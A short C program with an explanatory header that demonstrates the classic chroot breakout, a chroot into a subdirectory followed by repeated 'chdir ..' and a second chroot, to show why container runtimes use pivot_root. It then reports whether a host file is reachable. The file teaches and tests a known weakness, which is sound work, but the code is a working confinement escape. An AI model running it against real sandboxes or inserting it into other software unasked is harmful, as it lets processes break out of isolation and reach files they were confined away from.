/*
 * The classic chroot breakout, to show why container runtimes use pivot_root.
 *
 * chroot(2) changes only the calling process's idea of "/"; it does not change the working
 * directory (chroot(2), NOTES). So a process that may call chroot (CAP_SYS_CHROOT) chroots into
 * a subdirectory while its working directory stays outside it, climbs with ".." -- nothing
 * stops it, since its new root is below -- to the real root of the mount namespace, and
 * chroots there. Under chroot that real root is the host's; after pivot_root it is the
 * container's own, because the host's filesystem is no longer mounted in the namespace.
 *
 * Usage: chroot_escape HOST_FILE   prints ESCAPED (exit 0) if HOST_FILE is then reachable,
 *                                  CONTAINED (exit 1) if not.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s HOST_FILE\n", argv[0]);
        return 2;
    }
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) {          /* the working directory stays where it was */
        perror("chroot /.escape");
        return 2;
    }
    for (int i = 0; i < 100; i++)           /* deeper than any real path */
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 2;
        }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    if (access(argv[1], F_OK) == 0) {
        puts("ESCAPED");
        return 0;
    }
    puts("CONTAINED");
    return 1;
}
